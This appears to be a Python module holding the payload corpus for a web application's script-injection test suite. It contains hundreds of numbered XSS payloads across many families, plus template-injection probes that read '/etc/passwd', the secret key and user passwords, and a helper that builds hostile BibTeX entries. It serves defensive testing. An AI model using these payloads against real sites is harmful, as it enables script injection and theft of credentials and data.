"""The hostile inputs of the script-injection suite (issue 13), grouped by family.

Every payload is built so that, if it ever ran, a test would see it:

- it opens a dialog (`alert`, `confirm`, `prompt`) whose message is the
  payload's number, or sets `window.__xss` to that number;
- or it makes the browser ask for an address containing `xss-beacon-<number>`
  (a script, a stylesheet, a navigation, a `fetch`);
- template-syntax payloads carry markers around the template code: what a
  template engine would print in their place is listed in `evaluated`, and
  no page may contain it.

Where a payload is written with `alert(1)`, `__xss=1` or `xss-beacon`, the
number is filled in when the corpus is built; encoded forms (entities,
percent-encoding, base64) keep their `1` and are found by the page they ran on.

tests/test_injection_suite.py pushes each payload through every input on the
server; tests/test_browser_injection.py shows them to headless Chromium.
"""

from __future__ import annotations

import base64
import datetime
import re
from dataclasses import dataclass, field


@dataclass(frozen=True)
class Payload:
    family: str
    number: int
    text: str
    # What a template engine would print for this payload; never allowed in a page.
    evaluated: tuple[str, ...] = field(default=())

    @property
    def id(self) -> str:
        return f"{self.family}-{self.number:03d}"

    def __str__(self) -> str:
        return self.id


def _b64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


# Printed by Django's {% debug %} (the context and sys.modules, pretty-printed):
# template code ran where text was typed.
TEMPLATE_LEAKS = ("'True': True", "<module '", "sql_queries")
YEAR = str(datetime.date.today().year)

SCRIPT_TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>window.__xss=1</sCrIpT>",
    '<script src="/xss-beacon.js"></script>',
    "<script src=//xss-beacon.invalid/x.js></script>",
    '<script type="module">alert(1)</script>',
    '<script type="text/javascript">confirm(1)</script>',
    '<script/src="data:text/javascript,alert(1)"></script>',
    "<script\n>prompt(1)</script\n>",
    "<script>fetch('/xss-beacon')</script>",
    "<script>eval(atob('" + _b64("alert(1)") + "'))</script>",
    "<script>document.write('<img src=x onerror=alert(1)>')</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>script>alert(1)//<</script>/script>",
    "<script async defer src=/xss-beacon.js></script>",
    '<script charset="utf-7">+ADw-script+AD4-alert(1)+ADw-/script+AD4-</script>',
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<script>/*</script><script>*/alert(1)</script>",
    '<script x="</script>"><img src=x onerror=alert(1)>',
    "<script>\\u0061lert(1)</script>",
]

EVENT_HANDLERS = [
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img src=x oNeRrOr=window.__xss=1>",
    "<img/src/onerror=alert(1)>",
    "<img src=x onerror\x0b=alert(1)>",
    '<img src=x onerror  =  "alert(1)">',
    '<img src="x"onerror="alert(1)">',
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    '<img src=x onerror="&#x61;lert(1)">',
    "<img src=x onerror=top['al'+'ert'](1)>",
    '<img src="x:alert(1)" onerror="eval(src.slice(2))">',
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<iframe onload=alert(1)></iframe>",
    "<object data=x onerror=alert(1)></object>",
    "<marquee onstart=alert(1)>x</marquee>",
    '<div onmouseover="alert(1)" style="position:fixed;inset:0">x</div>',
    "<a href=# autofocus onfocus=alert(1)>x</a>",
    "<div tabindex=1 autofocus onfocus=alert(1)>x</div>",
    "<x contenteditable autofocus onfocus=alert(1)>x</x>",
    "<style onload=alert(1)></style>",
    "<link rel=stylesheet href=x onerror=alert(1)>",
    "<input type=image src=x onerror=alert(1)>",
    "<picture><source srcset=x><img src=x onerror=alert(1)></picture>",
    '<span style="animation:spin 1s" onanimationstart=alert(1)>x</span>',
    "<p onpointerenter=alert(1)>x</p>",
    '<i class="fa fa-github" onclick="alert(1)"></i>',
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<img src=x onerror=import('/xss-beacon.js')>",
]

ATTRIBUTE_BREAKOUTS = [
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)',
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    "` onmouseover=alert(1) x=`",
    'x" style="background:url(/xss-beacon)',
    '"/><svg onload=alert(1)>',
    '" href="javascript:alert(1)',
    "&quot; onmouseover=&quot;alert(1)",
    "&#34;><img src=x onerror=alert(1)>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><img src=x onerror=alert(1)>",
    '"}]</script><script>alert(1)</script>',
    '\\"};alert(1);//',
]

URL_SCHEMES = [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="java&Tab;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="javascript&#58alert(1)">x</a>',
    '<a href="javascript:%61lert%281%29">x</a>',
    '<a href="javascript://%0aalert(1)">x</a>',
    '<a href="%6Aavascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:alert(1)">x</a>',
    '<a href="livescript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,' + _b64("<script>alert(1)</script>") + '">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<a href=" data:text/html;charset=utf-8,%3Cscript%3Ealert(1)%3C/script%3E">x</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 '
    'onload=%22alert(1)%22/>">',
    '<img src="data:image/svg+xml;base64,'
    + _b64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')
    + '">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe src="data:text/html,<script>alert(1)</script>"></iframe>',
    '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "<isindex action=javascript:alert(1) type=submit>",
    '<base href="javascript:alert(1)//">',
    '<base href="//xss-beacon.invalid/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<meta http-equiv="refresh" content="0;url=/xss-beacon">',
    "javascript:alert(1)",
    " JAVASCRIPT:alert(1)",
    "javascript:alert(1)//https://example.org/",
    "vbscript:msgbox(1)",
    "data:text/html;base64," + _b64("<script>alert(1)</script>"),
    "//xss-beacon.invalid/x.js",
    'https://example.org/" onmouseover="alert(1)',
    'https://example.org/#"><script>alert(1)</script>',
    "https://example.org/'-alert(1)-'",
    "https://example.org/<script>alert(1)</script>",
]

MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JAVASCRIPT:alert(1))",
    "[x](java%0ascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&#58;alert(1))",
    "![x](javascript:alert(1))",
    "[x][r]\n\n[r]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "[x](<javascript:alert(1)>)",
    '[x]( javascript:alert(1) "t")',
    "[x](data:text/html;base64," + _b64("<script>alert(1)</script>") + ")",
    "[x](vbscript:msgbox(1))",
    '[x](https://example.org){: onclick="alert(1)"}',
    'A paragraph.\n{: onmouseover="alert(1)"}',
    '![x](https://example.org/a.png){onerror="alert(1)"}',
    '[x](https://example.org){href="javascript:alert(1)"}',
    '<div markdown="1">[x](javascript:alert(1))</div>',
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "x[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "Term\n: <img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    ":<img src=x onerror=alert(1)>:",
    "MFMATH0000000000000000X0X",
    '![x" onerror="alert(1)](https://example.org/a.png)',
    '[x](https://example.org "t\\" onmouseover=\\"alert(1)")',
    "[<img src=x onerror=alert(1)>](https://example.org)",
    '<https://example.org/"onmouseover="alert(1)>',
    '[x](#"><img src=x onerror=alert(1)>)',
    '[x](/news/"><img src=x onerror=alert(1)>)',
    '[x](/media/sites/1/../../x" onerror="alert(1))',
    "<details><summary>x</summary><img src=x onerror=alert(1)></details>",
]

SVG = [
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    '<svg><script href="data:,alert(1)"></script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<svg><a href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y=20>x</text></a></svg>',
    "<svg><a><animate attributeName=href values=javascript:alert(1) /><text y=20>x</text></a>"
    "</svg>",
    "<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
    "<image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "<svg><image href=x onerror=alert(1)></svg>",
    "<svg><style>@import url(/xss-beacon.css)</style></svg>",
    "<svg><desc><img src=x onerror=alert(1)></desc></svg>",
    "<svg><title><img src=x onerror=alert(1)></title></svg>",
    "<svg><discard onbegin=alert(1)></svg>",
    '<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">alert(1)'
    "</handler></svg>",
    '<svg><feImage href="javascript:alert(1)"/></svg>',
]

MATHML = [
    "<math><mtext><script>alert(1)</script></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml>'
    "</math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$$\\text{</math><script>alert(1)</script>}$$",
    "$\\style{background:url(javascript:alert(1))}{x}$",
    '$\\color{red" onmouseover="alert(1)}{x}$',
    "$\\mathrm{</math><img src=x onerror=alert(1)>}$",
    "$\\operatorname{<script>alert(1)</script>}$",
    "$x$<math><mtext></p><img src=x onerror=alert(1)></mtext></math>",
]

CSS = [
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<div style=\"background-image:url('/xss-beacon')\">x</div>",
    '<div style="width:expression(alert(1))">x</div>',
    '<div style="w\\idth:expression(alert(1))">x</div>',
    '<div style="x:exp/**/ression(alert(1))">x</div>',
    '<div style="behavior:url(/xss-beacon.htc)">x</div>',
    '<div style="-moz-binding:url(/xss-beacon.xml#x)">x</div>',
    "<style>@import url(/xss-beacon.css);</style>",
    '<style>body{background:url("javascript:alert(1)")}</style>',
    '<link rel=stylesheet href="data:text/css,body{background:url(/xss-beacon)}">',
    '<link rel=stylesheet href="/xss-beacon.css">',
    '<p style="color:red;background:url(/xss-beacon)">x</p>',
    '<p style="background-color:#fff;background-image:url(&quot;/xss-beacon&quot;)">x</p>',
    '<p style="background:\\75\\72\\6c(/xss-beacon)">x</p>',
    '<p style="background:u&#114;l(/xss-beacon)">x</p>',
    "<span style=\"font-family:'x';}</style><script>alert(1)</script>\">x</span>",
    '<p style="color:red;/*" onclick="alert(1)*/">x</p>',
    '<x style="list-style-image:url(javascript:alert(1))">x</x>',
    '<p style="border-image:url(/xss-beacon) 30">x</p>',
    "<p style=\"color:red;font-family:'</style><script>alert(1)</script>'\">x</p>",
]

MUTATION = [
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img'
    '&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><img src=x onerror=alert(1)></template>",
    '<a href="https://example.org/&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<img alt="<x" title="/><img src=x onerror=alert(1)>">',
    '<p title="&lt;/p&gt;&lt;img src=x onerror=alert(1)&gt;">x</p>',
    "<table><td><svg><style><img src=x onerror=alert(1)>",
    "<svg><style>&lt;img src=x onerror=alert(1)&gt;</style></svg>",
    "<iframe><img src=x onerror=alert(1)></iframe>",
    '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><img src=x onerror=alert(1)></title>",
    '<a href="#"><svg><style><a title="</style><img src=x onerror=alert(1)>">',
    "<math><style><img src=x onerror=alert(1)></style></math>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    '<div id="</div><img src=x onerror=alert(1)>">x</div>',
    "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
]

UNCLOSED_AND_NESTED = [
    "<img src=x onerror=alert(1)",
    "<script>alert(1)",
    '<a href="javascript:alert(1)',
    "<div><div><p><b><i><u><img src=x onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<a<img src=x onerror=alert(1)>",
    "<b <script>alert(1)</script>0",
    "<</p>img src=x onerror=alert(1)>",
    "<iframe src=javascript:alert(1)//",
    "<p <img src=x onerror=alert(1)>>",
    "<div title=\"<div title='<img src=x onerror=alert(1)>'>\">x</div>",
    "<a href=x<script>alert(1)</script>>x</a>",
    "<<<script>alert(1)>>>",
    "<div>" * 200 + "<img src=x onerror=alert(1)>",
    "<table><tr><td><img src=x onerror=alert(1)>",
    "<table><img src=x onerror=alert(1)>",
    "<ul><li><ol><li><img src=x onerror=alert(1)></ol></ul></li>",
    "<a href=https://example.org><a href=javascript:alert(1)>x</a></a>",
]

COMMENTS_AND_CDATA = [
    "<!--<img src=x onerror=alert(1)>-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!---><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>",
    "<math><![CDATA[</math><img src=x onerror=alert(1)>]]>",
    '<?xml version="1.0"?><img src=x onerror=alert(1)>',
    '<? foo="><script>alert(1)</script>">',
    "</<img src=x onerror=alert(1)>",
    "<!DOCTYPE html><img src=x onerror=alert(1)>",
    "--!><img src=x onerror=alert(1)>",
    "<![endif]--><script>alert(1)</script>",
    "<!-- <script>alert(1)</script>",
]

UNICODE = [
    '<a href="java\u200bscript:alert(1)">x</a>',
    '<a href="\u2028javascript:alert(1)">x</a>',
    '<a href="javascript\x00:alert(1)">x</a>',
    "<img src=x onerror\u200b=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<scr\u0130pt>alert(1)</scr\u0130pt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\ufe64script\ufe65alert(1)\ufe64/script\ufe65",
    "<img src=x onerror=\\u0061lert(1)>",
    "[x](javascript\u00a0:alert(1))",
    "\u202e<img src=x onerror=alert(1)>",
    '<a href="jav&#x200B;ascript:alert(1)">x</a>',
    "\ufeff<script>alert(1)</script>",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    '<a href="&#x6A;ava&#x0D;script:alert(1)">x</a>',
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<img src=x one\u0000rror=alert(1)>",
]

LATEX = [
    "\\href{javascript:alert(1)}{x}",
    "\\url{javascript:alert(1)}",
    "\\textless{}script\\textgreater{}alert(1)\\textless{}/script\\textgreater{}",
    "$<$script$>$alert(1)$<$/script$>$",
    "\\char60 script\\char62 alert(1)\\char60 /script\\char62",
    "\\verb|<script>alert(1)</script>|",
    '{\\textbackslash}"><img src=x onerror=alert(1)>',
    "\\textless img src=x onerror=alert(1)\\textgreater",
]


def _template(code: str, *evaluated: str, starts: str = "") -> tuple[str, tuple[str, ...]]:
    """`code` between markers; what it would print between the same markers (or, for
    output that varies, what it would print right after the first marker)."""
    printed = tuple(f"tpl:{value}:tpl" for value in evaluated)
    return f"tpl:{code}:tpl", printed + ((f"tpl:{starts}",) if starts else ())


TEMPLATES = [
    _template("{{ 7*7 }}", "49"),
    _template("{{7*'7'}}", "7777777", "49"),
    _template("{{ 7 | times: 7 }}", "49"),
    _template("${7*7}", "49"),
    _template("#{7*7}", "49"),
    _template("<%= 7*7 %>", "49"),
    _template("[[ 7*7 ]]", "49"),
    _template("{7*7}", "49"),
    _template("{{= 7*7 }}", "49"),
    _template('{% now "Y" %}', YEAR),
    _template("{% debug %}"),
    _template("{{ settings.SECRET_KEY }}"),
    _template("{{ request.user.password }}"),
    _template("{% csrf_token %}", starts='<input type="hidden"'),
    _template("{% load static %}{% static 'xss' %}", "/static/xss"),
    _template("{% templatetag openblock %}", "{%"),
    _template("{% include '/etc/passwd' %}", "root:x:0:0"),
    _template("{{ '<script>alert(1)</script>' | safe }}"),
    _template("{% autoescape off %}<script>alert(1)</script>{% endautoescape %}"),
    _template("{% raw %}<script>alert(1)</script>{% endraw %}"),
    _template("{{ constructor.constructor('alert(1)')() }}"),
    _template("{{ site.url }}{{ page.title }}"),
]

FAMILIES: dict[str, list] = {
    "script": SCRIPT_TAGS,
    "handler": EVENT_HANDLERS,
    "attribute": ATTRIBUTE_BREAKOUTS,
    "url": URL_SCHEMES,
    "markdown": MARKDOWN,
    "svg": SVG,
    "mathml": MATHML,
    "css": CSS,
    "mutation": MUTATION,
    "unclosed": UNCLOSED_AND_NESTED,
    "comment": COMMENTS_AND_CDATA,
    "unicode": UNICODE,
    "latex": LATEX,
    "template": TEMPLATES,
}

_NUMBERED = re.compile(r"\b(alert|confirm|prompt)\(1\)|__xss=1|xss-beacon")


def _numbered(text: str, number: int) -> str:
    def replace(match: re.Match[str]) -> str:
        if match.group(1):
            return f"{match.group(1)}({number})"
        if match.group(0) == "__xss=1":
            return f"__xss={number}"
        return f"xss-beacon-{number}"

    return _NUMBERED.sub(replace, text)


def _build() -> list[Payload]:
    payloads = []
    for family, entries in FAMILIES.items():
        for entry in entries:
            text, evaluated = entry if isinstance(entry, tuple) else (entry, ())
            number = len(payloads) + 1
            payloads.append(Payload(family, number, _numbered(text, number), evaluated))
    return payloads


PAYLOADS: list[Payload] = _build()
BY_NUMBER: dict[int, Payload] = {payload.number: payload for payload in PAYLOADS}


def sample(payloads: list[Payload], per_family: int = 3) -> list[Payload]:
    """The first few of each family, and every payload with characters outside printable
    ASCII (NUL, controls, zero-width, other scripts): what databases store differently."""
    taken: dict[str, int] = {}
    chosen = []
    for payload in payloads:
        unusual = any(not (" " <= char <= "~") for char in payload.text)
        if unusual or taken.get(payload.family, 0) < per_family:
            taken[payload.family] = taken.get(payload.family, 0) + 1
            chosen.append(payload)
    return chosen


# Every payload in one text, a paragraph each: for fields that take long text.
ALL_TEXT = "\n\n".join(payload.text for payload in PAYLOADS)

# Every field the BibTeX import reads into a column, al-folio's own included, and
# a few it keeps as written: each holds the payload in the payload's first entry.
BIBTEX_FIELDS = (
    "title", "author", "editor", "journal", "volume", "number", "pages", "publisher", "doi",
    "url", "eprint", "isbn", "abstract", "abbr", "preview", "pdf", "supp", "poster", "slides",
    "html", "code", "blog", "website", "video", "arxiv", "hal", "award", "award_name",
    "annotation", "additional_info", "altmetric", "dimensions", "google_scholar_id",
    "inspirehep_id", "pmid", "year", "month", "note", "keywords", "howpublished",
)  # fmt: skip
# The second entry: the venue of a paper in proceedings, a date, the flags, the key itself.
BIBTEX_SECOND_ENTRY_FIELDS = ("booktitle", "title", "author", "date", "issue", "selected",
                              "bibtex_show")  # fmt: skip


def bib_key(payload: Payload) -> str:
    """The payload as a citation key: without what keys cannot hold (space, comma, braces...)."""
    return f"k{payload.number}-" + re.sub(r"[\s,{}()=\"#%'\\]", "", payload.text)[:150]


def readable_in_bibtex(payload: Payload) -> bool:
    """Braces that do not pair up end a BibTeX value early: the import reports that entry."""
    depth = 0
    for character in payload.text:
        depth += {"{": 1, "}": -1}.get(character, 0)
        if depth < 0:
            return False
    return depth == 0 and "\x00" not in payload.text


def hostile_bibtex(payload: Payload) -> str:
    """Three entries and a macro with the payload in every field, the key of one included."""
    value, n = "{" + payload.text + "}", payload.number
    first = ",\n".join(f"  {name} = {value}" for name in BIBTEX_FIELDS)
    second = ",\n".join(f"  {name} = {value}" for name in BIBTEX_SECOND_ENTRY_FIELDS)
    return (
        f"@string{{hostile{n} = {value}}}\n\n"
        f"@article{{p{n},\n{first},\n  selected = {{true}},\n  bibtex_show = {{true}}\n}}\n\n"
        f"@inproceedings{{{bib_key(payload)},\n{second}\n}}\n\n"
        f"@misc{{m{n},\n  title = hostile{n} # {{ and more}},\n"
        f"  author = {{Lovelace, Ada and {payload.text[:200]}}},\n  year = {{2020}}\n}}\n\n"
    )
